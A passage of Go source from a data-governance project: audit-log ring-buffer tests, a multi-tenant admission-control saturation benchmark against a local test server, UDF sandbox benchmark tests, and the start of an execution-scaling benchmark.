			t.Fatalf("events[%d].Securable = %q, want %q (order lost across wrap)", i, events[i].Securable, want)
		}
	}
	if l.Dropped() != 6 {
		t.Fatalf("dropped = %d, want 6", l.Dropped())
	}
	if n := l.Count(nil); n != 4 {
		t.Fatalf("count = %d, want 4", n)
	}
}

func TestRingShrinkAndUnlimited(t *testing.T) {
	l := NewLog()
	for i := 0; i < 6; i++ {
		l.Record(Event{Securable: string(rune('a' + i))})
	}
	l.SetCapacity(2) // shrink drops the 4 oldest immediately
	events := l.Events(nil)
	if len(events) != 2 || events[0].Securable != "e" || events[1].Securable != "f" {
		t.Fatalf("after shrink: %v", events)
	}
	if l.Dropped() != 4 {
		t.Fatalf("dropped = %d, want 4", l.Dropped())
	}
	l.SetCapacity(0) // unlimited again
	for i := 0; i < 100; i++ {
		l.Record(Event{})
	}
	if n := l.Count(nil); n != 102 {
		t.Fatalf("unlimited count = %d, want 102", n)
	}
	if l.Dropped() != 4 {
		t.Fatalf("unlimited mode must not drop, got %d", l.Dropped())
	}
}

func TestEventsSinceCursor(t *testing.T) {
	l := NewLog()
	for i := 0; i < 3; i++ {
		l.Record(Event{Securable: string(rune('a' + i))})
	}
	events, next, lost := l.EventsSince(0)
	if len(events) != 3 || lost != 0 || next != 3 {
		t.Fatalf("EventsSince(0) = %d events, next=%d, lost=%d", len(events), next, lost)
	}
	if events[0].Securable != "a" || events[2].Securable != "c" {
		t.Fatalf("wrong order: %v", events)
	}
	// Nothing new: the cursor is stable and nothing is returned.
	events, next2, lost := l.EventsSince(next)
	if len(events) != 0 || lost != 0 || next2 != next {
		t.Fatalf("idle EventsSince = %d events, next=%d, lost=%d", len(events), next2, lost)
	}
	// Incremental drain picks up exactly the new events.
	l.Record(Event{Securable: "d"})
	events, next, lost = l.EventsSince(next)
	if len(events) != 1 || events[0].Securable != "d" || lost != 0 {
		t.Fatalf("incremental = %v (lost=%d)", events, lost)
	}
	if next != l.Seq() {
		t.Fatalf("next=%d, Seq()=%d", next, l.Seq())
	}
}

func TestEventsSinceReportsOverwrittenEvents(t *testing.T) {
	l := NewLog()
	l.SetCapacity(4)
	for i := 0; i < 3; i++ {
		l.Record(Event{Securable: string(rune('a' + i))})
	}
	_, cursor, _ := l.EventsSince(0)
	// Ring wraps: 7 more events into capacity 4 overwrite everything the
	// cursor had not consumed plus three of the new ones.
	for i := 0; i < 7; i++ {
		l.Record(Event{Securable: string(rune('d' + i))})
	}
	events, next, lost := l.EventsSince(cursor)
	// Sequences 4..10 are after the cursor; only 7..10 survive in the ring.
	if lost != 3 {
		t.Fatalf("lost = %d, want 3", lost)
	}
	if len(events) != 4 || events[0].Securable != "g" || events[3].Securable != "j" {
		t.Fatalf("retained after gap: %v", events)
	}
	if next != 10 {
		t.Fatalf("next = %d, want 10", next)
	}
	// Accounting is exact: consumed + lost covers every sequence number.
	if int64(len(events))+lost != next-cursor {
		t.Fatalf("events(%d) + lost(%d) != next-cursor(%d)", len(events), lost, next-cursor)
	}
}

func TestEventsSinceNoSilentLossAcrossWrap(t *testing.T) {
	// Property check: under any interleaving of records and drains, the sum
	// of drained events plus reported losses equals the number recorded.
	l := NewLog()
	l.SetCapacity(8)
	var cursor, drained, lost int64
	recorded := int64(0)
	for round := 0; round < 50; round++ {
		burst := (round % 13) + 1 // sometimes exceeds capacity
		for i := 0; i < burst; i++ {
			l.Record(Event{})
			recorded++
		}
		events, next, lostNow := l.EventsSince(cursor)
		drained += int64(len(events))
		lost += lostNow
		cursor = next
	}
	if drained+lost != recorded {
		t.Fatalf("drained(%d) + lost(%d) != recorded(%d): silent loss", drained, lost, recorded)
	}
	if lost == 0 {
		t.Fatal("test never overflowed the ring; increase burst sizes")
	}
}

func TestDroppedMetric(t *testing.T) {
	l := NewLog()
	l.SetCapacity(1)
	l.Record(Event{})
	l.Record(Event{}) // one drop before metrics attached
	reg := telemetry.NewRegistry()
	l.SetMetrics(reg)
	if got := reg.Counter("audit.dropped").Value(); got != 1 {
		t.Fatalf("metric after attach = %d, want 1 (backfill)", got)
	}
	l.Record(Event{})
	if got := reg.Counter("audit.dropped").Value(); got != 2 {
		t.Fatalf("metric = %d, want 2", got)
	}
}
