package audit

import (
	"strings"
	"sync"
	"testing"
	"time"

	"lakeguard/internal/telemetry"
)

func TestRecordAndFilter(t *testing.T) {
	l := NewLog()
	now := time.Unix(1000, 0)
	l.SetClock(func() time.Time { return now })
	l.Record(Event{User: "alice", Action: "SELECT", Securable: "t1", Decision: DecisionAllow})
	now = now.Add(time.Second)
	l.Record(Event{User: "bob", Action: "SELECT", Securable: "t1", Decision: DecisionDeny, Reason: "missing SELECT"})
	l.Record(Event{User: "alice", Action: "GRANT", Securable: "t2", Decision: DecisionAllow})

	if n := l.Count(nil); n != 3 {
		t.Fatalf("count = %d", n)
	}
	if got := len(l.ByUser("alice")); got != 2 {
		t.Errorf("alice events = %d", got)
	}
	denials := l.Denials()
	if len(denials) != 1 || denials[0].User != "bob" {
		t.Errorf("denials = %v", denials)
	}
	// Timestamps are stamped by the log, not the caller.
	events := l.Events(nil)
	if !events[0].Time.Equal(time.Unix(1000, 0)) || !events[1].Time.Equal(time.Unix(1001, 0)) {
		t.Error("clock stamping wrong")
	}
}

func TestEventString(t *testing.T) {
	e := Event{
		Time: time.Unix(0, 0), User: "alice", Compute: "STANDARD", SessionID: "s1",
		Action: "VEND_CREDENTIAL", Securable: "main.default.t", Decision: DecisionDeny, Reason: "requires eFGAC",
	}
	s := e.String()
	for _, want := range []string{"user=alice", "compute=STANDARD", "session=s1", "action=VEND_CREDENTIAL", "decision=DENY", `reason="requires eFGAC"`} {
		if !strings.Contains(s, want) {
			t.Errorf("event string missing %q: %s", want, s)
		}
	}
}

func TestEventsReturnsCopy(t *testing.T) {
	l := NewLog()
	l.Record(Event{User: "alice"})
	events := l.Events(nil)
	events[0].User = "mallory"
	if l.Events(nil)[0].User != "alice" {
		t.Error("Events aliased internal storage")
	}
}

func TestConcurrentRecording(t *testing.T) {
	l := NewLog()
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				l.Record(Event{User: "u", Decision: DecisionAllow})
				_ = l.Count(nil)
			}
		}()
	}
	wg.Wait()
	if n := l.Count(nil); n != 1600 {
		t.Errorf("count = %d", n)
	}
}

func TestRingWrapAround(t *testing.T) {
	l := NewLog()
	l.SetCapacity(4)
	for i := 0; i < 10; i++ {
		l.Record(Event{User: "u", Securable: string(rune('a' + i))})
	}
	events := l.Events(nil)
	if len(events) != 4 {
		t.Fatalf("retained = %d, want 4", len(events))
	}
	// Oldest-first order preserved across the wrap: g, h, i, j.
	for i, want := range []string{"g", "h", "i", "j"} {
		if events[i].Securable != want {
			t.Fatalf("events[%d].Securable = %q, want %q (order lost across wrap)", i, events[i].Securable, want)
		}
	}
	if l.Dropped() != 6 {
		t.Fatalf("dropped = %d, want 6", l.Dropped())
	}
	if n := l.Count(nil); n != 4 {
		t.Fatalf("count = %d, want 4", n)
	}
}

func TestRingShrinkAndUnlimited(t *testing.T) {
	l := NewLog()
	for i := 0; i < 6; i++ {
		l.Record(Event{Securable: string(rune('a' + i))})
	}
	l.SetCapacity(2) // shrink drops the 4 oldest immediately
	events := l.Events(nil)
	if len(events) != 2 || events[0].Securable != "e" || events[1].Securable != "f" {
		t.Fatalf("after shrink: %v", events)
	}
	if l.Dropped() != 4 {
		t.Fatalf("dropped = %d, want 4", l.Dropped())
	}
	l.SetCapacity(0) // unlimited again
	for i := 0; i < 100; i++ {
		l.Record(Event{})
	}
	if n := l.Count(nil); n != 102 {
		t.Fatalf("unlimited count = %d, want 102", n)
	}
	if l.Dropped() != 4 {
		t.Fatalf("unlimited mode must not drop, got %d", l.Dropped())
	}
}

func TestDroppedMetric(t *testing.T) {
	l := NewLog()
	l.SetCapacity(1)
	l.Record(Event{})
	l.Record(Event{}) // one drop before metrics attached
	reg := telemetry.NewRegistry()
	l.SetMetrics(reg)
	if got := reg.Counter("audit.dropped").Value(); got != 1 {
		t.Fatalf("metric after attach = %d, want 1 (backfill)", got)
	}
	l.Record(Event{})
	if got := reg.Counter("audit.dropped").Value(); got != 2 {
		t.Fatalf("metric = %d, want 2", got)
	}
}
