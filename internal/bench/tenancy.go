package bench

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand"
	"net/http/httptest"
	"sort"
	"strings"
	"sync"
	"time"

	"lakeguard/internal/admission"
	"lakeguard/internal/connect"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// TenancyConfig sizes the multi-tenant saturation experiment: N well-behaved
// tenants at a steady open-loop arrival rate, plus one greedy tenant offering
// roughly 10x its fair share, all through the Connect front door with the
// admission controller engaged.
type TenancyConfig struct {
	// InnocentTenants is the number of well-behaved tenants.
	InnocentTenants int
	// InnocentRate is each innocent tenant's open-loop arrival rate (req/s).
	InnocentRate float64
	// GreedyRate is the greedy tenant's offered rate (req/s); the default is
	// ~10x the per-tenant fair share of fleet capacity.
	GreedyRate float64
	// ServiceTime is the simulated backend execution time per query; fleet
	// capacity is MaxConcurrent/ServiceTime queries per second.
	ServiceTime time.Duration
	// MaxConcurrent is the admission controller's global concurrency limit.
	MaxConcurrent int
	// MaxQueueDepth bounds each tenant's admission queue.
	MaxQueueDepth int
	// Duration is the steady-state measurement window per phase.
	Duration time.Duration
}

// DefaultTenancyConfig is the recorded experiment: capacity 100 q/s
// (4 slots x 40ms), innocents offering 40 q/s total, greedy offering 200 q/s
// against a 20 q/s fair share (10x). Rates are sized so a single-core runner
// measures queueing policy, not its own scheduler contention.
func DefaultTenancyConfig() TenancyConfig {
	return TenancyConfig{
		InnocentTenants: 4,
		InnocentRate:    10,
		GreedyRate:      200,
		ServiceTime:     40 * time.Millisecond,
		MaxConcurrent:   4,
		MaxQueueDepth:   16,
		Duration:        2 * time.Second,
	}
}

// TenancyResult is the saturation experiment outcome. The acceptance bars,
// checked by the bench itself: P99RatioX <= 2 (an innocent tenant's p99 under
// attack stays within 2x of uncontended), InnocentGoodputPct >= 80, and
// GreedySheds > 0 with a positive Retry-After hint.
type TenancyResult struct {
	InnocentTenants int     `json:"innocent_tenants"`
	InnocentRateQPS float64 `json:"innocent_rate_qps"`
	GreedyRateQPS   float64 `json:"greedy_rate_qps"`
	ServiceTimeMS   float64 `json:"service_time_ms"`
	MaxConcurrent   int     `json:"max_concurrent"`
	MaxQueueDepth   int     `json:"max_queue_depth"`
	CapacityQPS     float64 `json:"capacity_qps"`
	DurationMS      float64 `json:"duration_ms"`

	UncontendedP50MS float64 `json:"uncontended_p50_ms"`
	UncontendedP99MS float64 `json:"uncontended_p99_ms"`

	InnocentOffered    int     `json:"innocent_offered"`
	InnocentOK         int     `json:"innocent_ok"`
	InnocentShed       int     `json:"innocent_shed"`
	InnocentGoodputPct float64 `json:"innocent_goodput_pct"`
	InnocentP50MS      float64 `json:"innocent_p50_ms"`
	InnocentP99MS      float64 `json:"innocent_p99_ms"`
	P99RatioX          float64 `json:"p99_ratio_x"`

	GreedyOffered      int     `json:"greedy_offered"`
	GreedyOK           int     `json:"greedy_ok"`
	GreedySheds        int     `json:"greedy_sheds"`
	GreedyGoodputPct   float64 `json:"greedy_goodput_pct"`
	GreedyRetryAfterMS float64 `json:"greedy_mean_retry_after_ms"`
	// ShedP99MS is the p99 round-trip of rejected greedy requests — the cost
	// of a shed, which must stay far below a service time (no slot consumed).
	ShedP99MS float64 `json:"shed_p99_ms"`

	ControllerSheds    int64 `json:"controller_sheds"`
	ControllerTimeouts int64 `json:"controller_timeouts"`
}

// FormatJSON renders the result for BENCH_tenancy.json.
func (r *TenancyResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// pacedBackend simulates a fleet with a mean per-query service time, making
// capacity deterministic: MaxConcurrent / ServiceTime. Individual queries
// jitter +-50% around the mean — without variance, concurrent slots complete
// in lockstep convoys and every waiter sees worst-case synchronized releases,
// which no real mixed workload exhibits.
type pacedBackend struct {
	service time.Duration
	schema  *types.Schema
	batches []*types.Batch

	mu  sync.Mutex
	rng *rand.Rand
}

func (p *pacedBackend) Execute(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error) {
	p.mu.Lock()
	service := p.service/2 + time.Duration(p.rng.Int63n(int64(p.service)))
	p.mu.Unlock()
	t := time.NewTimer(service)
	defer t.Stop()
	select {
	case <-t.C:
		return p.schema, p.batches, nil
	case <-ctx.Done():
		return nil, nil, ctx.Err()
	}
}

func (p *pacedBackend) Analyze(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	return p.schema, "paced", nil
}

func (p *pacedBackend) CloseSession(string) {}

// tenantLoad is one tenant's measured slice of a phase.
type tenantLoad struct {
	mu         sync.Mutex
	offered    int
	ok         int
	sheds      int
	okLat      []time.Duration
	shedLat    []time.Duration
	retryHints []time.Duration
}

// fire issues open-loop requests at `rate` for `dur` through c, recording
// latencies without closing the loop (a slow response does not slow arrivals).
func (l *tenantLoad) fire(c *connect.Client, rate float64, dur time.Duration) {
	interval := time.Duration(float64(time.Second) / rate)
	start := time.Now()
	var wg sync.WaitGroup
	for n := 0; ; n++ {
		next := start.Add(time.Duration(n) * interval)
		if next.Sub(start) >= dur {
			break
		}
		time.Sleep(time.Until(next))
		wg.Add(1)
		go func() {
			defer wg.Done()
			t0 := time.Now()
			_, err := c.Sql("SELECT 1").Collect()
			took := time.Since(t0)
			l.mu.Lock()
			defer l.mu.Unlock()
			l.offered++
			var oe *connect.OverloadedError
			switch {
			case err == nil:
				l.ok++
				l.okLat = append(l.okLat, took)
			case errors.As(err, &oe):
				l.sheds++
				l.shedLat = append(l.shedLat, took)
				l.retryHints = append(l.retryHints, oe.RetryAfter)
			}
		}()
	}
	wg.Wait()
}

func percentile(lat []time.Duration, p float64) time.Duration {
	if len(lat) == 0 {
		return 0
	}
	s := append([]time.Duration(nil), lat...)
	sort.Slice(s, func(i, j int) bool { return s[i] < s[j] })
	idx := int(p * float64(len(s)-1))
	return s[idx]
}

func ms(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }

// RunTenancy runs the two-phase saturation experiment: (1) innocents alone
// establish the uncontended latency baseline; (2) the greedy tenant joins at
// ~10x its fair share. Stride-scheduled admission keeps innocents' p99 near
// baseline while the greedy overflow is shed with 429 + Retry-After.
func RunTenancy(cfg TenancyConfig) (*TenancyResult, error) {
	schema := types.NewSchema(types.Field{Name: "one", Kind: types.KindInt64})
	bb := types.NewBatchBuilder(schema, 1)
	bb.AppendRow([]types.Value{types.Int64(1)})
	backend := &pacedBackend{
		service: cfg.ServiceTime,
		schema:  schema,
		batches: []*types.Batch{bb.Build()},
		rng:     rand.New(rand.NewSource(42)),
	}

	tokens := connect.TokenMap{"greedy-tok": "greedy@corp.com"}
	for i := 0; i < cfg.InnocentTenants; i++ {
		tokens[fmt.Sprintf("tenant%d-tok", i)] = fmt.Sprintf("tenant%d@corp.com", i)
	}
	met := telemetry.NewRegistry()
	ctrl := admission.NewController(admission.Config{
		MaxConcurrent: cfg.MaxConcurrent,
		MaxQueueDepth: cfg.MaxQueueDepth,
		Metrics:       met,
	})
	svc := connect.NewService(backend, tokens)
	svc.SetAdmission(ctrl)
	ts := httptest.NewServer(svc.Handler())
	defer ts.Close()

	newClient := func(token string) *connect.Client {
		c := connect.Dial(ts.URL, token)
		c.SetMaxRetries(0) // the bench measures raw shed behavior
		return c
	}

	runPhase := func(withGreedy bool) ([]*tenantLoad, *tenantLoad) {
		innocents := make([]*tenantLoad, cfg.InnocentTenants)
		var wg sync.WaitGroup
		for i := range innocents {
			innocents[i] = &tenantLoad{}
			c := newClient(fmt.Sprintf("tenant%d-tok", i))
			wg.Add(1)
			go func(l *tenantLoad) {
				defer wg.Done()
				l.fire(c, cfg.InnocentRate, cfg.Duration)
			}(innocents[i])
		}
		var greedy *tenantLoad
		if withGreedy {
			greedy = &tenantLoad{}
			c := newClient("greedy-tok")
			wg.Add(1)
			go func() {
				defer wg.Done()
				greedy.fire(c, cfg.GreedyRate, cfg.Duration)
			}()
		}
		wg.Wait()
		return innocents, greedy
	}

	merge := func(loads []*tenantLoad) *tenantLoad {
		out := &tenantLoad{}
		for _, l := range loads {
			out.offered += l.offered
			out.ok += l.ok
			out.sheds += l.sheds
			out.okLat = append(out.okLat, l.okLat...)
			out.shedLat = append(out.shedLat, l.shedLat...)
		}
		return out
	}

	// Phase 1: innocents alone — the uncontended baseline.
	baseLoads, _ := runPhase(false)
	base := merge(baseLoads)
	if base.ok == 0 {
		return nil, fmt.Errorf("bench: uncontended phase completed no requests")
	}

	// Phase 2: the greedy tenant joins.
	innocentLoads, greedy := runPhase(true)
	innocent := merge(innocentLoads)
	if innocent.offered == 0 || greedy.offered == 0 {
		return nil, fmt.Errorf("bench: contended phase offered no load")
	}

	var hintSum time.Duration
	for _, h := range greedy.retryHints {
		hintSum += h
	}
	meanHint := time.Duration(0)
	if len(greedy.retryHints) > 0 {
		meanHint = hintSum / time.Duration(len(greedy.retryHints))
	}

	st := ctrl.Snapshot()
	res := &TenancyResult{
		InnocentTenants: cfg.InnocentTenants,
		InnocentRateQPS: cfg.InnocentRate,
		GreedyRateQPS:   cfg.GreedyRate,
		ServiceTimeMS:   ms(cfg.ServiceTime),
		MaxConcurrent:   cfg.MaxConcurrent,
		MaxQueueDepth:   cfg.MaxQueueDepth,
		CapacityQPS:     float64(cfg.MaxConcurrent) / cfg.ServiceTime.Seconds(),
		DurationMS:      ms(cfg.Duration),

		UncontendedP50MS: ms(percentile(base.okLat, 0.50)),
		UncontendedP99MS: ms(percentile(base.okLat, 0.99)),

		InnocentOffered:    innocent.offered,
		InnocentOK:         innocent.ok,
		InnocentShed:       innocent.sheds,
		InnocentGoodputPct: 100 * float64(innocent.ok) / float64(innocent.offered),
		InnocentP50MS:      ms(percentile(innocent.okLat, 0.50)),
		InnocentP99MS:      ms(percentile(innocent.okLat, 0.99)),

		GreedyOffered:      greedy.offered,
		GreedyOK:           greedy.ok,
		GreedySheds:        greedy.sheds,
		GreedyGoodputPct:   100 * float64(greedy.ok) / float64(greedy.offered),
		GreedyRetryAfterMS: ms(meanHint),
		ShedP99MS:          ms(percentile(greedy.shedLat, 0.99)),

		ControllerSheds:    st.Sheds,
		ControllerTimeouts: st.Timeouts,
	}
	if res.UncontendedP99MS > 0 {
		res.P99RatioX = res.InnocentP99MS / res.UncontendedP99MS
	}

	// The experiment's own acceptance bars — failing them fails the bench.
	if res.P99RatioX > 2.0 {
		return res, fmt.Errorf("bench: innocent p99 %.1fms is %.2fx uncontended %.1fms (bar: <= 2x)",
			res.InnocentP99MS, res.P99RatioX, res.UncontendedP99MS)
	}
	if res.InnocentGoodputPct < 80 {
		return res, fmt.Errorf("bench: innocent goodput %.1f%% (bar: >= 80%%)", res.InnocentGoodputPct)
	}
	if res.GreedySheds == 0 {
		return res, fmt.Errorf("bench: greedy tenant at %.0f q/s was never shed", cfg.GreedyRate)
	}
	if meanHint <= 0 {
		return res, fmt.Errorf("bench: shed responses carried no Retry-After hint")
	}
	return res, nil
}

// FormatTenancy renders the experiment.
func FormatTenancy(r *TenancyResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Multi-tenant saturation: %d innocent tenants @ %.0f q/s each vs 1 greedy tenant @ %.0f q/s\n",
		r.InnocentTenants, r.InnocentRateQPS, r.GreedyRateQPS)
	fmt.Fprintf(&sb, "capacity %.0f q/s (%d slots x %.0fms service), per-tenant queue depth %d, window %.0fms/phase\n\n",
		r.CapacityQPS, r.MaxConcurrent, r.ServiceTimeMS, r.MaxQueueDepth, r.DurationMS)
	fmt.Fprintf(&sb, "  innocent latency   p50 %7.1fms   p99 %7.1fms   (uncontended p99 %.1fms -> %.2fx)\n",
		r.InnocentP50MS, r.InnocentP99MS, r.UncontendedP99MS, r.P99RatioX)
	fmt.Fprintf(&sb, "  innocent goodput   %d/%d = %.1f%%  (%d shed)\n",
		r.InnocentOK, r.InnocentOffered, r.InnocentGoodputPct, r.InnocentShed)
	fmt.Fprintf(&sb, "  greedy goodput     %d/%d = %.1f%%  (%d shed with 429, mean Retry-After %.0fms)\n",
		r.GreedyOK, r.GreedyOffered, r.GreedyGoodputPct, r.GreedySheds, r.GreedyRetryAfterMS)
	fmt.Fprintf(&sb, "  shed round-trip    p99 %.1fms (rejected requests consume no execution slot)\n",
		r.ShedP99MS)
	fmt.Fprintf(&sb, "  controller         sheds %d, queue timeouts %d\n", r.ControllerSheds, r.ControllerTimeouts)
	return sb.String()
}
