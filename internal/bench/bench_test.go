package bench

import (
	"strings"
	"testing"
	"time"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// TestTable2Shape verifies the headline result of the paper's evaluation at
// reduced scale: sandboxed execution costs extra, the movement-bound simple
// UDF pays a larger relative overhead than the CPU-bound hash UDF, and
// fusion keeps overhead from exploding with the UDF count.
func TestTable2Shape(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	cfg := Table2Config{SimpleRows: 60_000, HashRows: 2_000, UDFCounts: []int{5, 10}, Repetitions: 5, Fuse: true}
	rows, err := RunTable2(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var meanSimple, meanHash float64
	for _, r := range rows {
		t.Logf("n=%d simple=%.1f%% hash=%.1f%%", r.NumUDFs, r.SimpleOverheadPct, r.HashOverheadPct)
		if r.SimpleIsolated <= 0 || r.HashIsolated <= 0 {
			t.Fatalf("non-positive timing: %+v", r)
		}
		meanSimple += r.SimpleOverheadPct
		meanHash += r.HashOverheadPct
	}
	meanSimple /= float64(len(rows))
	meanHash /= float64(len(rows))
	// Timing assertions are only meaningful when this process has stable
	// CPU time; under concurrent test packages on a shared core the
	// measurements are noise (use cmd/lakeguard-bench standalone for the
	// real numbers).
	if noise := EnvironmentNoise(); noise > 0.15 {
		t.Skipf("environment too noisy for timing assertions (%.0f%% run-to-run drift); measured means: simple=%.1f%% hash=%.1f%%",
			noise*100, meanSimple, meanHash)
	}
	// CPU-bound user code amortizes the crossing: its mean relative
	// overhead must stay below the movement-bound kernel's across the
	// sweep (individual points carry timing noise).
	if meanHash >= meanSimple {
		t.Errorf("mean hash overhead %.1f%% should be below mean simple overhead %.1f%%", meanHash, meanSimple)
	}
	// Fusion keeps overhead bounded even at 10 UDFs.
	last := rows[len(rows)-1]
	if last.SimpleOverheadPct > 80 {
		t.Errorf("simple overhead at n=10 is %.1f%%; fusion appears broken", last.SimpleOverheadPct)
	}
}

// TestFusionKeepsOverheadFlat is ablation A1. Wall-clock comparisons are
// too noisy on shared single-core CI boxes, so the assertion is on the
// deterministic mechanism: with fusion, all 10 UDFs share one sandbox
// crossing per batch; without it, every UDF pays its own crossing.
func TestFusionKeepsOverheadFlat(t *testing.T) {
	crossings := func(fuse bool) int64 {
		w := NewWorld(sandbox.Config{})
		w.Engine.FuseUDFs = fuse
		if err := w.SeedPairs(20_000); err != nil {
			t.Fatal(err)
		}
		opts := optimizer.DefaultOptions()
		opts.FuseUDFs = fuse
		pl, err := w.PreparePlan(UDFQuery(udfNames(10)), func(a *analyzer.Analyzer) {
			RegisterBenchUDFs(a, 10, SimpleUDFBody, types.KindInt64, Admin)
		}, opts)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Run(pl); err != nil {
			t.Fatal(err)
		}
		st := w.Dispatcher.Stats()
		return st.ColdStarts + st.Reuses // = sandbox acquisitions = crossings
	}
	fused := crossings(true)
	unfused := crossings(false)
	t.Logf("crossings: fused=%d unfused=%d", fused, unfused)
	if unfused != 10*fused {
		t.Errorf("unfused crossings = %d, want 10x fused (%d)", unfused, 10*fused)
	}
}

func TestColdStartAmortization(t *testing.T) {
	cfg := ColdStartConfig{Provision: 150 * time.Millisecond, Rows: 2_000, WarmQueries: 3}
	res, err := RunColdStart(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("first=%v warm=%v coldStarts=%d", res.FirstQuery, res.WarmMedian(), res.ColdStarts)
	if res.ColdStarts != 1 {
		t.Errorf("cold start paid %d times, want once per session", res.ColdStarts)
	}
	if res.FirstQuery < cfg.Provision {
		t.Errorf("first query %v should include the %v provisioning delay", res.FirstQuery, cfg.Provision)
	}
	if res.WarmMedian() >= cfg.Provision {
		t.Errorf("warm queries (%v) should not pay provisioning (%v)", res.WarmMedian(), cfg.Provision)
	}
}

func TestTable1AllCapabilitiesProbeGreen(t *testing.T) {
	rows, err := RunTable1()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 9 {
		t.Fatalf("expected 9 capability rows, got %d", len(rows))
	}
	for _, r := range rows {
		if !r.Probed {
			t.Errorf("%s: not probed", r.Property)
		}
		if r.Lakeguard == "FAILED" {
			t.Errorf("capability probe failed: %s", r.Property)
		}
	}
	out := FormatTable1(rows)
	if !strings.Contains(out, "Row-Filter") {
		t.Error("formatted table incomplete")
	}
}

func TestMembraneComparisonShape(t *testing.T) {
	res := RunMembraneComparison(DefaultMembraneConfig())
	t.Logf("lakeguard util=%.2f backlog=%.1f | membrane util=%.2f backlog=%.1f",
		res.LakeguardUtilization, res.LakeguardBacklog, res.MembraneUtilization, res.MembraneBacklog)
	// The shared pool must dominate the static split under bursty load.
	if res.LakeguardUtilization <= res.MembraneUtilization {
		t.Errorf("shared pool utilization %.3f should exceed static split %.3f",
			res.LakeguardUtilization, res.MembraneUtilization)
	}
	if res.LakeguardBacklog >= res.MembraneBacklog {
		t.Errorf("shared pool backlog %.1f should be below static split %.1f",
			res.LakeguardBacklog, res.MembraneBacklog)
	}
}

func TestEFGACModesSmall(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	rows, err := RunEFGACModes(EFGACModesConfig{RowCounts: []int{50, 2_000}, Repetitions: 2})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		t.Logf("rows=%d inline=%v spill=%v", r.Rows, r.Inline, r.Spill)
		if r.Inline <= 0 || r.Spill <= 0 {
			t.Fatalf("bad timings: %+v", r)
		}
	}
}

func TestWorldSeedPairs(t *testing.T) {
	w := NewWorld(sandbox.Config{})
	if err := w.SeedPairs(5_000); err != nil {
		t.Fatal(err)
	}
	pl, err := w.PreparePlan("SELECT COUNT(*) AS n, SUM(a) AS s FROM pairs", nil, optimizer.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	qc := exec.NewQueryContext(w.Cat, w.Ctx())
	b, err := w.Engine.ExecuteToBatch(qc, pl)
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].Int64(0) != 5_000 {
		t.Fatalf("seeded %d rows", b.Cols[0].Int64(0))
	}
	// SUM(0..4999) = 4999*5000/2
	if b.Cols[1].Int64(0) != 4999*5000/2 {
		t.Fatalf("seed content wrong: %d", b.Cols[1].Int64(0))
	}
}
