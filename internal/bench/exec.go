package bench

import (
	"encoding/json"
	"fmt"
	"runtime"
	"strings"
	"time"

	"lakeguard/internal/delta"
	"lakeguard/internal/eval"
	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/security"
	"lakeguard/internal/types"
)

// ExecScalingConfig sizes the morsel-parallelism experiment: a multi-file
// scan→filter→aggregate workload run at increasing worker counts.
type ExecScalingConfig struct {
	// Rows is the total table size.
	Rows int
	// RowsPerFile sets file granularity; Rows/RowsPerFile files is the
	// morsel count available to parallel scan workers.
	RowsPerFile int
	// Workers are the Engine.Parallelism settings to sweep.
	Workers []int
	// ReadLatency is the simulated per-file object-store GET latency. Real
	// deployments read data files from cloud storage where tens of
	// milliseconds per GET is normal; the container running this benchmark
	// has a single CPU, so overlapping those waits — not dividing compute —
	// is what the latency-modeled series measures. The in-memory series
	// (latency zero) is recorded alongside, honestly: on one CPU it stays
	// flat, and only gains on multi-core hosts.
	ReadLatency time.Duration
	// Repetitions per worker count; the minimum wall time is kept.
	Repetitions int
}

// DefaultExecScalingConfig is the recorded experiment: 500k rows across ~61
// files with 12ms simulated GET latency.
func DefaultExecScalingConfig() ExecScalingConfig {
	return ExecScalingConfig{
		Rows:        500_000,
		RowsPerFile: 8192,
		Workers:     []int{1, 2, 4, 8},
		ReadLatency: 12 * time.Millisecond,
		Repetitions: 3,
	}
}

// ExecScalingPoint is one worker count's measurement.
type ExecScalingPoint struct {
	Workers   int     `json:"workers"`
	LatencyMS float64 `json:"latency_modeled_ms"`
	InMemMS   float64 `json:"in_memory_ms"`
	// Speedup is latency-modeled wall time at workers=1 divided by this
	// point's latency-modeled wall time.
	Speedup float64 `json:"speedup"`
}

// FilterKernelResult compares the row-interpreter filter path to the
// vectorized kernel on a simple comparison predicate.
type FilterKernelResult struct {
	Rows        int     `json:"rows"`
	RowNsPerRow float64 `json:"row_interp_ns_per_row"`
	VecNsPerRow float64 `json:"vec_kernel_ns_per_row"`
	Speedup     float64 `json:"speedup"`
}

// ExecResult is the full recorded experiment, serialized to BENCH_exec.json.
type ExecResult struct {
	CPUs          int                `json:"cpus"`
	GoMaxProcs    int                `json:"gomaxprocs"`
	Rows          int                `json:"rows"`
	Files         int                `json:"files"`
	ReadLatencyMS float64            `json:"read_latency_ms"`
	Query         string             `json:"query"`
	Scaling       []ExecScalingPoint `json:"scaling"`
	FilterKernel  FilterKernelResult `json:"filter_kernel"`
}

// FormatJSON renders the result for BENCH_exec.json.
func (r *ExecResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// latencyTables wraps a TableProvider, sleeping per data-file read to model
// object-store GET latency. Delta log reads (planning) are left alone so the
